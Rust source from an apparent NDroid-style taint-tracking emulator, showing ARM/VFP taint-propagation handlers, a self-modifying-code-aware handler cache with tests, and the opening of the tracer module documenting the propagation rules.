                        | shadow.vfp[((fm & 15) * 2 + 1) as usize];
                    if op != VfpOp::Mov {
                        t |= shadow.vfp[((fn_ & 15) * 2) as usize]
                            | shadow.vfp[((fn_ & 15) * 2 + 1) as usize];
                    }
                    t
                }
            };
            match prec {
                VfpPrec::F32 => shadow.vfp[(fd & 31) as usize] = t,
                VfpPrec::F64 => {
                    shadow.vfp[((fd & 15) * 2) as usize] = t;
                    shadow.vfp[((fd & 15) * 2 + 1) as usize] = t;
                }
            }
            written |= t;
        }
        Instr::VfpMem {
            load, prec, fd, rn, ..
        } => {
            let Some(addr) = effect.addr else {
                return Taint::CLEAR;
            };
            let width = if prec == VfpPrec::F64 { 8 } else { 4 };
            if load {
                let t = shadow.mem.range_taint(addr, width) | shadow.regs[rn.index()];
                match prec {
                    VfpPrec::F32 => shadow.vfp[(fd & 31) as usize] = t,
                    VfpPrec::F64 => {
                        shadow.vfp[((fd & 15) * 2) as usize] = t;
                        shadow.vfp[((fd & 15) * 2 + 1) as usize] = t;
                    }
                }
                written |= t;
            } else {
                let t = match prec {
                    VfpPrec::F32 => shadow.vfp[(fd & 31) as usize],
                    VfpPrec::F64 => {
                        shadow.vfp[((fd & 15) * 2) as usize]
                            | shadow.vfp[((fd & 15) * 2 + 1) as usize]
                    }
                };
                shadow.mem.set_range(addr, width, t);
                written |= t;
            }
        }
        Instr::VfpMrs { .. } => {}
    }
    written
}

/// Applies one pre-compiled [`TaintOp`] from a block's effect program —
/// the superblock-compiled twin of [`propagate`].
///
/// The caller guarantees the instruction's condition passed
/// (`effect.executed`); a skipped instruction must simply not be
/// applied, exactly as [`propagate`] returns early for it. Everything
/// else — the `ops` counter, the address guard, writeback ordering, the
/// written-taint return contract — mirrors [`propagate`] bit for bit;
/// the `lowered_ops_match_propagate` differential test below pins the
/// two implementations together.
pub fn apply_taint_op(shadow: &mut ShadowState, op: &TaintOp, effect: &Effect) -> Taint {
    shadow.ops += 1;
    let mut written = Taint::CLEAR;
    match *op {
        TaintOp::Nop => {}
        TaintOp::SetReg { rd, srcs } => {
            let mut t = Taint::CLEAR;
            let mut m = srcs;
            while m != 0 {
                t |= shadow.regs[m.trailing_zeros() as usize];
                m &= m - 1;
            }
            shadow.regs[rd as usize] = t;
            written |= t;
        }
        TaintOp::Load {
            rd,
            rn,
            rm,
            width,
            wb,
        } => {
            let Some(addr) = effect.addr else {
                return Taint::CLEAR;
            };
            if wb {
                shadow.regs[rn as usize] |= shadow.regs[rm as usize];
                written |= shadow.regs[rn as usize];
            }
            let mut t = shadow.mem.range_taint(addr, width as u32) | shadow.regs[rn as usize];
            if rm != NO_REG {
                t |= shadow.regs[rm as usize];
            }
            if rd != 15 {
                shadow.regs[rd as usize] = t;
                written |= t;
            }
        }
        TaintOp::Store {
            rd,
            rn,
            rm,
            width,
            wb,
        } => {
            let Some(addr) = effect.addr else {
                return Taint::CLEAR;
            };
            if wb {
                shadow.regs[rn as usize] |= shadow.regs[rm as usize];
                written |= shadow.regs[rn as usize];
            }
            shadow
                .mem
                .set_range(addr, width as u32, shadow.regs[rd as usize]);
            written |= shadow.regs[rd as usize];
        }
        TaintOp::LoadMulti { rn, regs } => {
            let Some(start) = effect.addr else {
                return Taint::CLEAR;
            };
            let base_taint = shadow.regs[rn as usize];
            for (i, r) in regs.iter().enumerate() {
                let slot = start.wrapping_add(4 * i as u32);
                let t = shadow.mem.range_taint(slot, 4) | base_taint;
                if r != Reg::PC {
                    shadow.regs[r.index()] = t;
                    written |= t;
                }
            }
        }
        TaintOp::StoreMulti { regs } => {
            let Some(start) = effect.addr else {
                return Taint::CLEAR;
            };
            for (i, r) in regs.iter().enumerate() {
                let slot = start.wrapping_add(4 * i as u32);
                shadow.mem.set_range(slot, 4, shadow.regs[r.index()]);
                written |= shadow.regs[r.index()];
            }
        }
        TaintOp::VfpAlu {
            prec,
            fd,
            fn_,
            fm,
            mov,
        } => {
            let t = match prec {
                VfpPrec::F32 => {
                    let mut t = shadow.vfp[(fm & 31) as usize];
                    if !mov {
                        t |= shadow.vfp[(fn_ & 31) as usize];
                    }
                    t
                }
                VfpPrec::F64 => {
                    let mut t = shadow.vfp[((fm & 15) * 2) as usize]
                        | shadow.vfp[((fm & 15) * 2 + 1) as usize];
                    if !mov {
                        t |= shadow.vfp[((fn_ & 15) * 2) as usize]
                            | shadow.vfp[((fn_ & 15) * 2 + 1) as usize];
                    }
                    t
                }
            };
            match prec {
                VfpPrec::F32 => shadow.vfp[(fd & 31) as usize] = t,
                VfpPrec::F64 => {
                    shadow.vfp[((fd & 15) * 2) as usize] = t;
                    shadow.vfp[((fd & 15) * 2 + 1) as usize] = t;
                }
            }
            written |= t;
        }
        TaintOp::VfpLoad { prec, fd, rn } => {
            let Some(addr) = effect.addr else {
                return Taint::CLEAR;
            };
            let width = if prec == VfpPrec::F64 { 8 } else { 4 };
            let t = shadow.mem.range_taint(addr, width) | shadow.regs[rn as usize];
            match prec {
                VfpPrec::F32 => shadow.vfp[(fd & 31) as usize] = t,
                VfpPrec::F64 => {
                    shadow.vfp[((fd & 15) * 2) as usize] = t;
                    shadow.vfp[((fd & 15) * 2 + 1) as usize] = t;
                }
            }
            written |= t;
        }
        TaintOp::VfpStore { prec, fd } => {
            let Some(addr) = effect.addr else {
                return Taint::CLEAR;
            };
            let width = if prec == VfpPrec::F64 { 8 } else { 4 };
            let t = match prec {
                VfpPrec::F32 => shadow.vfp[(fd & 31) as usize],
                VfpPrec::F64 => {
                    shadow.vfp[((fd & 15) * 2) as usize] | shadow.vfp[((fd & 15) * 2 + 1) as usize]
                }
            };
            shadow.mem.set_range(addr, width, t);
            written |= t;
        }
    }
    written
}

/// A cache of "does this PC need taint work" pre-decodings — the
/// paper's hot-instruction cache ("NDroid caches hot instructions and
/// the corresponding handlers", §V-C). With our pre-decoded [`Instr`]
/// model the win is small; the cache exists so the ablation benchmark
/// (`ablate_decode_cache`) can measure exactly that claim.
///
/// Entries are keyed by `(pc, thumb)` — ARM and Thumb decodes of the
/// same address are different instructions — and validated against the
/// [`Memory::page_version`] write generation, like the decoded-
/// instruction cache ([`ndroid_arm::icache::DecodeCache`]): when
/// self-modifying code rewrites a page, every classification on that
/// page is dropped and re-identified on next sight. Without this, a
/// branch patched into a store would keep being classified
/// "irrelevant" and its taint update silently lost.
#[derive(Debug, Default, Clone)]
pub struct HandlerCache {
    seen: HashMap<(u32, bool), bool>,
    /// Per guest page: the pinned `Memory` slot and the write
    /// generation the page's classifications were recorded under.
    pages: HashMap<u32, PageGen>,
    /// The [`Memory::epoch`] slot lineage the pinned slots are valid
    /// against (0 = not yet bound); see
    /// [`DecodeCache`](ndroid_arm::icache::DecodeCache) for the
    /// cross-lineage aliasing hazard this guards.
    epoch: u64,
    /// Cache hits.
    pub hits: u64,
    /// Cache misses.
    pub misses: u64,
    /// Page-wise invalidations triggered by a stale write generation.
    pub invalidations: u64,
}

#[derive(Debug, Clone)]
struct PageGen {
    /// The `Memory` slot backing the page, pinned on first resolution
    /// (`None` while the guest page is still unmapped).
    mem_slot: Option<u32>,
    /// Write generation the classifications were made under.
    version: u64,
}

impl PageGen {
    #[inline]
    fn live_version(&mut self, mem: &Memory, pageno: u32) -> u64 {
        match self.mem_slot {
            Some(slot) => mem.version_by_slot(slot),
            None => {
                self.mem_slot = mem.slot_of_page(pageno);
                self.mem_slot.map_or(0, |slot| mem.version_by_slot(slot))
            }
        }
    }
}

impl HandlerCache {
    /// An empty cache.
    pub fn new() -> HandlerCache {
        HandlerCache::default()
    }

    /// Drops every classification recorded for `pageno` (stale write
    /// generation observed).
    fn purge_page(&mut self, pageno: u32) {
        self.seen.retain(|(p, _), _| p >> PAGE_SHIFT != pageno);
    }

    /// Declares the cached classifications valid against slot lineage
    /// `epoch` without dropping them — for snapshot forks, which carry
    /// memory and analysis state as one unit (see
    /// [`DecodeCache::rebind_epoch`](ndroid_arm::icache::DecodeCache::rebind_epoch)).
    pub fn rebind_epoch(&mut self, epoch: u64) {
        self.epoch = epoch;
    }

    /// Lineage guard: classifications pinned under another `Memory`
    /// lineage are dropped wholesale (stats are kept).
    #[inline]
    fn check_epoch(&mut self, mem: &Memory) {
        if self.epoch != mem.epoch() {
            self.seen.clear();
            self.pages.clear();
            self.epoch = mem.epoch();
        }
    }

    /// Looks up the cached classification for `(pc, thumb)`:
    /// `Some(relevant?)` on a hit, `None` when the instruction must be
    /// identified. A page whose write generation moved since its
    /// entries were recorded is invalidated (and counted) here.
    pub fn lookup(&mut self, mem: &Memory, pc: u32, thumb: bool) -> Option<bool> {
        self.check_epoch(mem);
        let pageno = pc >> PAGE_SHIFT;
        if let Some(g) = self.pages.get_mut(&pageno) {
            let live = g.live_version(mem, pageno);
            if live != g.version {
                g.version = live;
                self.purge_page(pageno);
                self.invalidations += 1;
                self.misses += 1;
                return None;
            }
        }
        match self.seen.get(&(pc, thumb)) {
            Some(hit) => {
                self.hits += 1;
                Some(*hit)
            }
            None => {
                self.misses += 1;
                None
            }
        }
    }

    /// Records the classification of the instruction at `(pc, thumb)`
    /// under `mem`'s current write generation.
    pub fn insert(&mut self, mem: &Memory, pc: u32, thumb: bool, relevant: bool) {
        self.check_epoch(mem);
        let pageno = pc >> PAGE_SHIFT;
        let g = self.pages.entry(pageno).or_insert(PageGen {
            mem_slot: None,
            version: 0,
        });
        let live = g.live_version(mem, pageno);
        if live != g.version {
            g.version = live;
            self.purge_page(pageno);
        }
        self.seen.insert((pc, thumb), relevant);
    }

    /// Whether the instruction affects taint propagation at all.
    pub fn classify(instr: &Instr) -> bool {
        !matches!(
            instr,
            Instr::Branch { .. } | Instr::BranchExchange { .. } | Instr::Svc { .. }
        )
    }

    /// Whether the instruction at `(pc, thumb)` affects taint (cached)
    /// — the combined lookup/insert convenience.
    pub fn needs_taint_work(&mut self, mem: &Memory, pc: u32, thumb: bool, instr: &Instr) -> bool {
        match self.lookup(mem, pc, thumb) {
            Some(hit) => hit,
            None => {
                let relevant = HandlerCache::classify(instr);
                self.insert(mem, pc, thumb, relevant);
                relevant
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_arm::cond::Cond;
    use ndroid_arm::insn::{AddrMode4, DpOp, MemSize, ShiftKind};
    use ndroid_arm::reg::RegList;

    fn eff(instr: Instr, addr: Option<u32>) -> Effect {
        Effect {
            instr,
            pc: 0x1000_0000,
            size: 4,
            executed: true,
            branch: None,
            addr,
            svc: None,
        }
    }

    fn dp(op: DpOp, rd: Reg, rn: Reg, op2: Op2) -> Instr {
        Instr::Dp {
            cond: Cond::Al,
            op,
            s: false,
            rd,
            rn,
            op2,
        }
    }

    #[test]
    fn binary_op_unions_taints() {
        let mut sh = ShadowState::new();
        sh.regs[1] = Taint::IMEI;
        sh.regs[2] = Taint::SMS;
        propagate(
            &mut sh,
            &eff(dp(DpOp::Add, Reg::R0, Reg::R1, Op2::reg(Reg::R2)), None),
        );
        assert_eq!(sh.regs[0], Taint::IMEI | Taint::SMS);
    }

    #[test]
    fn binary_op_imm_copies_rn_taint() {
        let mut sh = ShadowState::new();
        sh.regs[1] = Taint::CONTACTS;
        propagate(
            &mut sh,
            &eff(
                dp(DpOp::Add, Reg::R0, Reg::R1, Op2::encode_imm(4).unwrap()),
                None,
            ),
        );
        assert_eq!(sh.regs[0], Taint::CONTACTS);
    }

    #[test]
    fn mov_imm_clears() {
        let mut sh = ShadowState::new();
        sh.regs[0] = Taint::IMEI;
        propagate(
            &mut sh,
            &eff(
                dp(DpOp::Mov, Reg::R0, Reg::R0, Op2::encode_imm(7).unwrap()),
                None,
            ),
        );
        assert_eq!(sh.regs[0], Taint::CLEAR, "mov Rd, #imm clears Rd taint");
    }

    #[test]
    fn mov_reg_copies() {
        let mut sh = ShadowState::new();
        sh.regs[3] = Taint::SMS;
        propagate(
            &mut sh,
            &eff(dp(DpOp::Mov, Reg::R0, Reg::R0, Op2::reg(Reg::R3)), None),
        );
        assert_eq!(sh.regs[0], Taint::SMS);
    }

    #[test]
    fn compare_leaves_taint_alone() {
        let mut sh = ShadowState::new();
        sh.regs[0] = Taint::IMEI;
        sh.regs[1] = Taint::SMS;
        propagate(
            &mut sh,
            &eff(dp(DpOp::Cmp, Reg::R0, Reg::R0, Op2::reg(Reg::R1)), None),
        );
        assert_eq!(sh.regs[0], Taint::IMEI, "no control-flow taint");
    }

    #[test]
    fn load_unions_memory_and_base_taint() {
        let mut sh = ShadowState::new();
        sh.mem.set_range(0x5000, 4, Taint::SMS);
        sh.regs[1] = Taint::IMEI; // tainted pointer
        let instr = Instr::Mem {
            cond: Cond::Al,
            load: true,
            size: MemSize::Word,
            rd: Reg::R0,
            rn: Reg::R1,
            offset: MemOffset::Imm(0),
            pre: true,
            up: true,
            writeback: false,
        };
        propagate(&mut sh, &eff(instr, Some(0x5000)));
        assert_eq!(
            sh.regs[0],
            Taint::SMS | Taint::IMEI,
            "t(Rd) = t(M[addr]) OR t(Rn)"
        );
    }

    #[test]
    fn store_sets_memory_taint() {
        let mut sh = ShadowState::new();
        sh.regs[0] = Taint::CONTACTS;
        sh.mem.set_range(0x6000, 4, Taint::IMEI); // will be overwritten
        let instr = Instr::Mem {
            cond: Cond::Al,
            load: false,
            size: MemSize::Word,
            rd: Reg::R0,
            rn: Reg::R1,
            offset: MemOffset::Imm(0),
            pre: true,
            up: true,
            writeback: false,
        };
        propagate(&mut sh, &eff(instr, Some(0x6000)));
        assert_eq!(
            sh.mem.range_taint(0x6000, 4),
            Taint::CONTACTS,
            "t(M[addr]) = t(Rd) is a SET"
        );
    }

    #[test]
    fn byte_store_taints_one_byte() {
        let mut sh = ShadowState::new();
        sh.regs[0] = Taint::SMS;
        let instr = Instr::Mem {
            cond: Cond::Al,
            load: false,
            size: MemSize::Byte,
            rd: Reg::R0,
            rn: Reg::R1,
            offset: MemOffset::Imm(0),
            pre: true,
            up: true,
            writeback: false,
        };
        propagate(&mut sh, &eff(instr, Some(0x7000)));
        assert_eq!(sh.mem.get(0x7000), Taint::SMS);
        assert_eq!(sh.mem.get(0x7001), Taint::CLEAR, "byte granularity");
    }

    #[test]
    fn ldm_stm_per_register() {
        let mut sh = ShadowState::new();
        sh.regs[4] = Taint::IMEI;
        sh.regs[5] = Taint::SMS;
        let push = Instr::MemMulti {
            cond: Cond::Al,
            load: false,
            rn: Reg::SP,
            mode: AddrMode4::Db,
            writeback: true,
            regs: RegList::of(&[Reg::R4, Reg::R5]),
        };
        propagate(&mut sh, &eff(push, Some(0x8000)));
        assert_eq!(sh.mem.range_taint(0x8000, 4), Taint::IMEI);
        assert_eq!(sh.mem.range_taint(0x8004, 4), Taint::SMS);

        // Pop into different registers.
        sh.regs[4] = Taint::CLEAR;
        sh.regs[5] = Taint::CLEAR;
        let pop = Instr::MemMulti {
            cond: Cond::Al,
            load: true,
            rn: Reg::SP,
            mode: AddrMode4::Ia,
            writeback: true,
            regs: RegList::of(&[Reg::R6, Reg::R7]),
        };
        propagate(&mut sh, &eff(pop, Some(0x8000)));
        assert_eq!(sh.regs[6], Taint::IMEI);
        assert_eq!(sh.regs[7], Taint::SMS);
    }

    #[test]
    fn skipped_instruction_does_nothing() {
        let mut sh = ShadowState::new();
        sh.regs[1] = Taint::IMEI;
        let mut e = eff(dp(DpOp::Mov, Reg::R0, Reg::R0, Op2::reg(Reg::R1)), None);
        e.executed = false;
        propagate(&mut sh, &e);
        assert_eq!(sh.regs[0], Taint::CLEAR);
    }

    #[test]
    fn shift_by_register_includes_amount_taint() {
        let mut sh = ShadowState::new();
        sh.regs[2] = Taint::CLEAR; // value
        sh.regs[3] = Taint::SMS; // shift amount is tainted
        propagate(
            &mut sh,
            &eff(
                dp(
                    DpOp::Mov,
                    Reg::R0,
                    Reg::R0,
                    Op2::RegShiftReg {
                        rm: Reg::R2,
                        kind: ShiftKind::Lsl,
                        rs: Reg::R3,
                    },
                ),
                None,
            ),
        );
        assert_eq!(sh.regs[0], Taint::SMS);
    }

    #[test]
    fn vfp_propagation() {
        let mut sh = ShadowState::new();
        sh.vfp[2] = Taint::LOCATION_GPS; // d1 low half
        let vadd = Instr::Vfp {
            cond: Cond::Al,
            op: VfpOp::Add,
            prec: VfpPrec::F64,
            fd: 0,
            fn_: 1,
            fm: 2,
        };
        propagate(&mut sh, &eff(vadd, None));
        assert_eq!(sh.vfp[0], Taint::LOCATION_GPS);
        assert_eq!(sh.vfp[1], Taint::LOCATION_GPS);
    }

    #[test]
    fn vfp_store_and_load_memory() {
        let mut sh = ShadowState::new();
        sh.vfp[0] = Taint::MIC;
        sh.vfp[1] = Taint::MIC;
        let vstr = Instr::VfpMem {
            cond: Cond::Al,
            load: false,
            prec: VfpPrec::F64,
            fd: 0,
            rn: Reg::R1,
            offset: 0,
            up: true,
        };
        propagate(&mut sh, &eff(vstr, Some(0x9000)));
        assert_eq!(sh.mem.range_taint(0x9000, 8), Taint::MIC);
        let vldr = Instr::VfpMem {
            cond: Cond::Al,
            load: true,
            prec: VfpPrec::F32,
            fd: 5,
            rn: Reg::R1,
            offset: 0,
            up: true,
        };
        propagate(&mut sh, &eff(vldr, Some(0x9000)));
        assert_eq!(sh.vfp[5], Taint::MIC);
    }

    #[test]
    fn handler_cache_hits() {
        let mut mem = Memory::new();
        mem.write_u32(0x100, 0);
        let mut cache = HandlerCache::new();
        let add = dp(DpOp::Add, Reg::R0, Reg::R1, Op2::reg(Reg::R2));
        let b = Instr::Branch {
            cond: Cond::Al,
            link: false,
            offset: 0,
        };
        assert!(cache.needs_taint_work(&mem, 0x100, false, &add));
        assert!(!cache.needs_taint_work(&mem, 0x104, false, &b));
        assert!(cache.needs_taint_work(&mem, 0x100, false, &add));
        assert_eq!(cache.hits, 1);
        assert_eq!(cache.misses, 2);
    }

    #[test]
    fn handler_cache_invalidates_on_page_write() {
        let mut mem = Memory::new();
        mem.write_u32(0x8000, 0xEAFF_FFFE); // b .
        let mut cache = HandlerCache::new();
        cache.insert(&mem, 0x8000, false, false);
        assert_eq!(cache.lookup(&mem, 0x8000, false), Some(false));
        // Self-modifying code: any write on the page drops the stale
        // classification.
        mem.write_u32(0x8000, 0xE58D_0000); // str r0, [sp]
        assert_eq!(cache.lookup(&mem, 0x8000, false), None, "stale entry dropped");
        assert_eq!(cache.invalidations, 1);
        // Re-recorded under the new generation, it sticks again.
        cache.insert(&mem, 0x8000, false, true);
        assert_eq!(cache.lookup(&mem, 0x8000, false), Some(true));
    }

    #[test]
    fn handler_cache_keys_on_thumb_bit() {
        let mut mem = Memory::new();
        mem.write_u32(0x8000, 0);
        let mut cache = HandlerCache::new();
        cache.insert(&mem, 0x8000, false, false);
        assert_eq!(
            cache.lookup(&mem, 0x8000, true),
            None,
            "ARM and Thumb classifications never alias"
        );
        cache.insert(&mem, 0x8000, true, true);
        assert_eq!(cache.lookup(&mem, 0x8000, false), Some(false));
        assert_eq!(cache.lookup(&mem, 0x8000, true), Some(true));
    }

    fn mem_instr(load: bool, pre: bool, writeback: bool, offset: MemOffset) -> Instr {
        Instr::Mem {
            cond: Cond::Al,
            load,
            size: MemSize::Word,
            rd: Reg::R0,
            rn: Reg::R1,
            offset,
            pre,
            up: true,
            writeback,
        }
    }

    #[test]
    fn writeback_register_offset_taints_base() {
        // ldr r0, [r1, r2]!  with tainted r2: the written-back base
        // r1 = r1 + r2 must carry t(r2).
        let mut sh = ShadowState::new();
        sh.regs[2] = Taint::IMEI;
        let instr = mem_instr(
            true,
            true,
            true,
            MemOffset::Reg {
                rm: Reg::R2,
                kind: ShiftKind::Lsl,
                amount: 0,
            },
        );
        propagate(&mut sh, &eff(instr, Some(0x5000)));
        assert_eq!(sh.regs[1], Taint::IMEI, "t(Rn) |= t(Rm) on writeback");
        assert_eq!(sh.regs[0], Taint::IMEI, "load result carries address taint");
    }

    #[test]
    fn post_indexed_store_taints_base() {
        // str r0, [r1], r2  with tainted r2: post-indexed forms always
        // write back, so t(r1) gains t(r2); memory taint is t(r0).
        let mut sh = ShadowState::new();
        sh.regs[0] = Taint::SMS;
        sh.regs[2] = Taint::CONTACTS;
        let instr = mem_instr(
            false,
            false,
            false,
            MemOffset::Reg {
                rm: Reg::R2,
                kind: ShiftKind::Lsl,
                amount: 0,
            },
        );
        propagate(&mut sh, &eff(instr, Some(0x6000)));
        assert_eq!(sh.regs[1], Taint::CONTACTS, "post-indexed base gains offset taint");
        assert_eq!(sh.mem.range_taint(0x6000, 4), Taint::SMS);
    }

    #[test]
    fn writeback_imm_offset_leaves_base_alone() {
        // ldr r0, [r1], #4 — constant offset, t(Rn) unchanged.
        let mut sh = ShadowState::new();
        sh.regs[1] = Taint::MIC;
        let instr = mem_instr(true, false, false, MemOffset::Imm(4));
        propagate(&mut sh, &eff(instr, Some(0x7000)));
        assert_eq!(sh.regs[1], Taint::MIC, "immediate writeback adds nothing");
        assert_eq!(sh.regs[0], Taint::MIC, "pointer rule still applies");
    }

    #[test]
    fn writeback_load_into_base_keeps_loaded_taint() {
        // ldr r1, [r1], r2: the executor writes Rn then Rd, so Rd wins
        // — the final t(r1) is the loaded value's taint union the
        // address taints, not just t(r2).
        let mut sh = ShadowState::new();
        sh.regs[2] = Taint::CONTACTS;
        sh.mem.set_range(0x5000, 4, Taint::SMS);
        let instr = Instr::Mem {
            cond: Cond::Al,
            load: true,
            size: MemSize::Word,
            rd: Reg::R1,
            rn: Reg::R1,
            offset: MemOffset::Reg {
                rm: Reg::R2,
                kind: ShiftKind::Lsl,
                amount: 0,
            },
            pre: false,
            up: true,
            writeback: false,
        };
        propagate(&mut sh, &eff(instr, Some(0x5000)));
        assert_eq!(sh.regs[1], Taint::SMS | Taint::CONTACTS);
    }

    /// Differential pin: for every instruction shape the tracer
    /// understands, `lower_taint` + `apply_taint_op` must leave the
    /// shadow state (registers, VFP, memory, ops counter) and the
    /// written-taint return bit-identical to `propagate` — and the
    /// block-time relevance classification must equal the handler
    /// cache's.
    #[test]
    fn lowered_ops_match_propagate() {
        use ndroid_arm::block::{is_taint_relevant, lower_taint};

        let reg_off = |rm| MemOffset::Reg {
            rm,
            kind: ShiftKind::Lsl,
            amount: 0,
        };
        let cases: Vec<(Instr, Option<u32>)> = vec![
            (dp(DpOp::Add, Reg::R0, Reg::R1, Op2::reg(Reg::R2)), None),
            (
                dp(DpOp::Add, Reg::R0, Reg::R1, Op2::encode_imm(4).unwrap()),
                None,
            ),
            (
                dp(DpOp::Mov, Reg::R0, Reg::R0, Op2::encode_imm(7).unwrap()),
                None,
            ),
            (dp(DpOp::Mov, Reg::R0, Reg::R0, Op2::reg(Reg::R3)), None),
            (dp(DpOp::Cmp, Reg::R0, Reg::R0, Op2::reg(Reg::R1)), None),
            (dp(DpOp::Add, Reg::PC, Reg::R1, Op2::reg(Reg::R2)), None),
            (
                dp(
                    DpOp::Mov,
                    Reg::R0,
                    Reg::R0,
                    Op2::RegShiftReg {
                        rm: Reg::R2,
                        kind: ShiftKind::Lsl,
                        rs: Reg::R3,
                    },
                ),
                None,
            ),
            (
                Instr::Mul {
                    cond: Cond::Al,
                    s: false,
                    rd: Reg::R0,
                    rm: Reg::R1,
                    rs: Reg::R2,
                    acc: Some(Reg::R3),
                },
                None,
            ),
            (mem_instr(true, true, false, MemOffset::Imm(0)), Some(0x5000)),
            (mem_instr(true, true, true, reg_off(Reg::R2)), Some(0x5000)),
            (mem_instr(true, false, false, reg_off(Reg::R2)), Some(0x5000)),
            (mem_instr(false, true, false, MemOffset::Imm(0)), Some(0x6000)),
            (mem_instr(false, false, false, reg_off(Reg::R2)), Some(0x6000)),
            (
                Instr::Mem {
                    cond: Cond::Al,
                    load: true,
                    size: MemSize::Byte,
                    rd: Reg::PC,
                    rn: Reg::R1,
                    offset: reg_off(Reg::R2),
                    pre: false,
                    up: true,
                    writeback: false,
                },
                Some(0x5000),
            ),
            (
                Instr::MemMulti {
                    cond: Cond::Al,
                    load: true,
                    rn: Reg::R1,
                    mode: AddrMode4::Ia,
                    writeback: true,
                    regs: RegList::of(&[Reg::R4, Reg::R5, Reg::PC]),
                },
                Some(0x8000),
            ),
            (
                Instr::MemMulti {
                    cond: Cond::Al,
                    load: false,
                    rn: Reg::SP,
                    mode: AddrMode4::Db,
                    writeback: true,
                    regs: RegList::of(&[Reg::R4, Reg::R5]),
                },
                Some(0x8000),
            ),
            (
                Instr::Vfp {
                    cond: Cond::Al,
                    op: VfpOp::Add,
                    prec: VfpPrec::F64,
                    fd: 0,
                    fn_: 1,
                    fm: 2,
                },
                None,
            ),
            (
                Instr::Vfp {
                    cond: Cond::Al,
                    op: VfpOp::Mov,
                    prec: VfpPrec::F32,
                    fd: 7,
                    fn_: 0,
                    fm: 2,
                },
                None,
            ),
            (
                Instr::Vfp {
                    cond: Cond::Al,
                    op: VfpOp::Cmp,
                    prec: VfpPrec::F32,
                    fd: 0,
                    fn_: 1,
                    fm: 2,
                },
                None,
            ),
            (
                Instr::VfpMem {
                    cond: Cond::Al,
                    load: true,
                    prec: VfpPrec::F64,
                    fd: 1,
                    rn: Reg::R1,
                    offset: 0,
                    up: true,
                },
                Some(0x9000),
            ),
            (
                Instr::VfpMem {
                    cond: Cond::Al,
                    load: false,
                    prec: VfpPrec::F32,
                    fd: 2,
                    rn: Reg::R1,
                    offset: 0,
                    up: true,
                },
                Some(0x9000),
            ),
            (Instr::VfpMrs { cond: Cond::Al }, None),
        ];

        let setup = |sh: &mut ShadowState| {
            sh.regs[1] = Taint::IMEI;
            sh.regs[2] = Taint::SMS;
            sh.regs[3] = Taint::CONTACTS;
            sh.regs[4] = Taint::MIC;
            sh.regs[5] = Taint::LOCATION_GPS;
            sh.vfp[2] = Taint::LOCATION_GPS;
            sh.vfp[4] = Taint::MIC;
            sh.vfp[5] = Taint::SMS;
            sh.mem.set_range(0x5000, 4, Taint::SMS);
            sh.mem.set_range(0x8000, 8, Taint::CONTACTS);
            sh.mem.set_range(0x9000, 8, Taint::MIC);
        };

        for (instr, addr) in cases {
            assert_eq!(
                is_taint_relevant(&instr),
                HandlerCache::classify(&instr),
                "classification parity for {instr:?}"
            );
            let e = eff(instr, addr);
            let mut a = ShadowState::new();
            let mut b = ShadowState::new();
            setup(&mut a);
            setup(&mut b);
            let w_prop = propagate(&mut a, &e);
            let op = lower_taint(&instr);
            let w_block = apply_taint_op(&mut b, &op, &e);
            assert_eq!(w_prop, w_block, "written-taint parity for {instr:?}");
            assert_eq!(a.regs, b.regs, "register parity for {instr:?}");
            assert_eq!(a.vfp, b.vfp, "vfp parity for {instr:?}");
            assert_eq!(a.ops, b.ops, "ops-counter parity for {instr:?}");
            for p in 0x4FF0u32..0x9040 {
                assert_eq!(
                    a.mem.range_taint(p, 1),
                    b.mem.range_taint(p, 1),
                    "memory parity at {p:#x} for {instr:?}"
                );
            }
        }
    }

    #[test]
    fn ldm_writeback_constant_offset_keeps_base_taint() {
        // ldmia r1!, {r4, r5}: writeback is Rn + 8 — constant — so
        // t(Rn) must be exactly what it was before.
        let mut sh = ShadowState::new();
        sh.regs[1] = Taint::IMEI;
        sh.mem.set_range(0x8000, 8, Taint::SMS);
        let ldm = Instr::MemMulti {
            cond: Cond::Al,
            load: true,
            rn: Reg::R1,
            mode: AddrMode4::Ia,
            writeback: true,
            regs: RegList::of(&[Reg::R4, Reg::R5]),
        };
        propagate(&mut sh, &eff(ldm, Some(0x8000)));
        assert_eq!(sh.regs[1], Taint::IMEI, "constant writeback: t(Rn) unchanged");
        assert_eq!(sh.regs[4], Taint::SMS | Taint::IMEI);
    }
}
