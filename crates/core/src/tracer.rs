//! The instruction tracer: Table V's taint-propagation logic for
//! ARM/Thumb instructions.
//!
//! "By instrumenting third-party native libraries, the instruction
//! tracer monitors each ARM/Thumb instruction to determine how the
//! taint propagates. … Currently, NDROID only supports arithmetic and
//! copy operations" (§V-C). The rules implemented here are exactly the
//! rows of Table V:
//!
//! | Format                      | Propagation                            |
//! |-----------------------------|----------------------------------------|
//! | `binary-op Rd, Rn, Rm`      | `t(Rd) = t(Rn) OR t(Rm)`               |
//! | `binary-op Rd, Rm, #imm`    | `t(Rd) = t(Rm)`                        |
//! | `unary Rd, Rm`              | `t(Rd) = t(Rm)`                        |
//! | `mov Rd, #imm`              | `t(Rd) = TAINT_CLEAR`                  |
//! | `mov Rd, Rm`                | `t(Rd) = t(Rm)`                        |
//! | `LDR* Rd, Rn, #imm`         | `t(Rd) = t(M[addr]) OR t(Rn)`          |
//! | `LDM/POP`                   | per-register `t(Ri) = t(M[..]) OR t(Rn)` |
//! | `STR* Rd, Rn, #imm`         | `t(M[addr]) = t(Rd)`                   |
//! | `STM/PUSH`                  | per-register `t(M[..]) = t(Ri)`        |
//!
//! Note the pointer rule: "if the tainted input is the address of an
//! untainted value, the taint will be propagated to it" — loads union
//! the base register's taint into the result.

use ndroid_arm::exec::Effect;
use ndroid_arm::insn::{Instr, MemOffset, Op2, VfpOp, VfpPrec};
use ndroid_arm::reg::Reg;
use ndroid_dvm::Taint;
use ndroid_emu::shadow::ShadowState;
use std::collections::HashMap;

/// Propagates taint for one executed instruction.
///
/// Must be called *after* the executor ran (so [`Effect::addr`] holds
/// the effective address) but relies only on shadow state for taints,
/// which the executor never touches.
pub fn propagate(shadow: &mut ShadowState, effect: &Effect) {
    if !effect.executed {
        return;
    }
    shadow.ops += 1;
    match effect.instr {
        Instr::Dp { op, rd, rn, op2, .. } => {
            if op.is_compare() {
                return; // flags only; no control-flow taint (§VII)
            }
            let mut t = Taint::CLEAR;
            if op.uses_rn() {
                t |= shadow.regs[rn.index()];
            }
            match op2 {
                Op2::Imm { .. } => {}
                Op2::RegShiftImm { rm, .. } => t |= shadow.regs[rm.index()],
                Op2::RegShiftReg { rm, rs, .. } => {
                    t |= shadow.regs[rm.index()];
